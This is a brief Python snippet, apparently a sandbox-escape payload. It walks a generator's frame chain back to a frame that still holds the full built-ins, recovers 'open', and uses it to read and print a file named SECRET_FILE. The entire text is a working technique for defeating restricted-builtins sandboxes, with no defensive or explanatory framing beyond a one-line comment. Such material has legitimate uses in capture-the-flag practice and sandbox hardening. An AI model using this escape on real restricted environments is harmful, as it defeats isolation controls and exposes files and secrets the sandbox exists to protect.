# Walks up the frames from a running generator, until one has the full built-ins.
def walk():
    frame = walker.gi_frame
    while frame:
        if "open" in frame.f_builtins:
            yield frame.f_builtins["open"]
        frame = frame.f_back


walker = walk()
print(next(walker)(SECRET_FILE).read())
